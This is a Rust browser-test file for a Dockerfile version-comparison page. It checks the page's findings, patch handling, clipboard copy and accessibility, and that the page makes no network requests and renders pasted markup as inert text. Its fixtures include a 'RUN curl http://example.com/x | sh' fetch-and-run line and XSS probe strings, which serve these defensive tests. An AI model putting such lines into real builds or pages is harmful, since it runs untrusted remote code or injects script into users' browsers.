//! The page that compares two versions: it says the same as the engine does elsewhere, behind an airlock of
//! its own.

use serde_json::json;

use crate::harness::{Engine, Page, Recorder, Site};
use rules::{Case, Document};

const OLD: &str = "FROM debian:13\nADD app /app\nUSER root\n";
const NEW: &str =
    "# moved\n\nFROM debian:13\nADD app /app\nRUN curl http://example.com/x | sh\nUSER 1000\n";

fn opened(engine: Engine, site: Site) -> (Recorder, Page) {
    let server = site.serve();
    let page = Page::open(engine, server.origin(), "/compare/");
    (server, page)
}

/// What the engine of this machine makes of it.
fn native(today: &str) -> report::Comparison {
    let check = |text: &str| {
        let document = Document { name: "Dockerfile", bytes: text.as_bytes(), taken_for: None };
        let case = Case::new(&[document], today.parse().unwrap());
        (rules::check(&case), case.sources)
    };
    let (old, new) = (check(OLD), check(NEW));
    report::compare_texts((&old.0, &old.1), (&new.0, &new.1))
}

fn two_versions_are_compared(engine: Engine) {
    let (server, page) = opened(engine, Site::built());
    // What is pasted before the engine is here is compared when it comes.
    page.paste("#old", OLD);
    page.wait_until("document.querySelector('#status').dataset.airlock === 'closed'");
    page.wait_until("document.getElementById('said').textContent.startsWith('Airlock closed')");
    let n_loading = server.requests().len();
    page.paste("#new", NEW);
    page.wait_until("document.querySelectorAll('#told details').length === 3");
    let heading = page.text_of("#result-heading");
    assert_eq!(page.text_of("#told .fixed summary"), "Fixed (1)", "{heading}");
    assert!(page.text_of("#told .fixed li").contains("root"), "{heading}");
    let changed = page.text_of("#told .changed");
    assert!(changed.contains("Does it run as root?") && changed.ends_with("No"), "{changed}");
    page.screenshot(&format!("compare-{engine:?}").to_lowercase());

    let script = "
        navigator.clipboard.writeText = async text => { self.copied = text; };
        document.getElementById('copy').click();
        return new Date().toISOString().slice(0, 10);";
    let today = page.run(script, vec![]);
    let markdown = native(today.as_str().unwrap()).markdown();
    page.wait_until("self.copied");
    assert_eq!(page.run("return self.copied;", vec![]), json!(markdown));

    // A file counts like a text, and the two change places.
    page.drop_files(
        "[data-side=new]",
        &[("image.json", br#"[{"Id": "sha256:1", "Config": {"User": "root"}, "RootFS": {}}]"#)],
    );
    page.wait_until(
        "document.querySelector('[data-side=new] .files').textContent === 'image.json'",
    );
    page.click("#swap");
    page.wait_until(
        "document.querySelector('[data-side=old] .files').textContent === 'image.json'",
    );
    page.wait_until(&format!("document.getElementById('old').value === {}", json!(NEW)));

    // Nothing was asked for, and nothing can be.
    let script = "
        fetch('/compare-probe').then(() => done('went'), () => done('refused'));";
    assert_eq!(page.run_until_done(script, vec![]), json!("refused"));
    let lines = server.lines().split_off(n_loading);
    assert_eq!(lines, Vec::<String>::new());
}

#[test]
#[ignore = "runs through `cargo xtask test`"]
fn two_versions_are_compared_in_chromium() {
    two_versions_are_compared(Engine::Chromium);
}

#[test]
#[ignore = "runs through `cargo xtask test`"]
fn two_versions_are_compared_in_firefox() {
    two_versions_are_compared(Engine::Firefox);
}

/// The control run: where no policy holds, the page says so and reads nothing.
#[test]
#[ignore = "runs through `cargo xtask test`"]
fn control_without_a_policy_nothing_is_read() {
    let (server, page) =
        opened(Engine::Chromium, Site::built().with_open_page("compare/index.html"));
    page.paste("#old", OLD);
    page.paste("#new", NEW);
    page.wait_until("document.querySelector('#status').dataset.airlock === 'failed'");
    page.pause();
    assert!(page.text_of("#said").contains("nothing is read here"));
    assert_eq!(
        page.run("return document.getElementById('told').childElementCount;", vec![]),
        json!(0)
    );
    let script = "fetch('/compare-probe').then(() => done('went'), () => done('refused'));";
    assert_eq!(page.run_until_done(script, vec![]), json!("went"));
    assert!(server.lines().contains(&"GET /compare-probe".to_owned()));
}

#[test]
#[ignore = "runs through `cargo xtask test`"]
fn the_page_is_accessible_and_fits_the_window() {
    for (width, scheme) in [(1280, "light"), (360, "dark")] {
        let (_server, page) = opened(Engine::Chromium, Site::built());
        page.emulate("prefers-color-scheme", scheme);
        page.resize(width, 800);
        page.wait_until("document.querySelector('#status').dataset.airlock === 'closed'");
        assert_eq!(page.axe(), Vec::<String>::new(), "empty, {width} wide");
        page.paste("#old", OLD);
        page.paste("#new", NEW);
        page.wait_until("document.querySelectorAll('#told li').length > 1");
        assert_eq!(page.axe(), Vec::<String>::new(), "{width} wide");
        let overflow = "const it = document.documentElement;
            return it.scrollWidth - it.clientWidth;";
        assert_eq!(page.run(overflow, vec![]), json!(0), "{width} wide");
        page.run("document.getElementById('result').scrollIntoView();", vec![]);
        page.screenshot(&format!("compare-{width}"));
    }
}

/// A patch on the right side says the same as the version that it makes, and the findings of lines that
/// both versions have can be left out.
#[test]
#[ignore = "runs through `cargo xtask test`"]
fn a_patch_is_applied_and_unchanged_lines_can_be_left_out() {
    let (_server, page) = opened(Engine::Chromium, Site::built());
    page.wait_until("document.querySelector('#status').dataset.airlock === 'closed'");
    page.paste("#old", OLD);
    let patch = "--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,3 +1,6 @@\n+# moved\n+\n FROM debian:13\n \
                 ADD app /app\n-USER root\n+RUN curl http://example.com/x | sh\n+USER 1000\n";
    page.paste("#new", patch);
    page.wait_until(
        "document.getElementById('said').textContent.startsWith('The patch was applied')",
    );
    let today = page.run("return new Date().toISOString().slice(0, 10);", vec![]);
    let native = native(today.as_str().unwrap());
    assert_eq!(page.text_of("#result-heading"), native.summary());
    page.click("#only-changed");
    page.wait_until("document.getElementById('result-heading').textContent.includes('left out')");
    let some = native.clone().only_changed();
    let heading = page.text_of("#result-heading");
    assert!(heading.starts_with(&some.summary()), "{heading}");
    assert!(some.unchanged.len() < native.unchanged.len(), "{heading}");
    let script = "
        navigator.clipboard.writeText = async text => { self.copied = text; };
        document.getElementById('copy').click();";
    page.run(script, vec![]);
    page.wait_until("self.copied");
    assert_eq!(page.run("return self.copied;", vec![]), json!(some.markdown()));
    page.screenshot("compare-changed-lines-1280");

    // One that does not fit is told, and nothing of the earlier answer is left.
    page.paste("#old", "FROM alpine:3\n");
    page.wait_until("document.getElementById('said').textContent.includes('does not fit')");
    assert_eq!(page.text_of("#result-heading"), "Not compared");
    assert_eq!(
        page.run("return document.getElementById('told').childElementCount;", vec![]),
        json!(0)
    );
}

/// Text from input is text here too.
#[test]
#[ignore = "runs through `cargo xtask test`"]
fn markup_stays_text() {
    let (_server, page) = opened(Engine::Chromium, Site::built());
    page.paste("#old", "FROM a\n");
    page.paste(
        "#new",
        "FROM <img/src=x/onerror=self.harm=1>:1\nADD <b>x</b> /\nUSER <script>harm=1</script>\n",
    );
    page.wait_until("document.querySelectorAll('#told li').length > 0");
    let found = page.run("return [document.querySelectorAll('#told img, #told b, #told script').length, self.harm ?? 0];", vec![]);
    assert_eq!(found, json!([0, 0]));
    let text = page.text_of("#told .new");
    assert!(text.contains("<img/src=x/onerror=self.harm=1>:1"), "{text}");
}
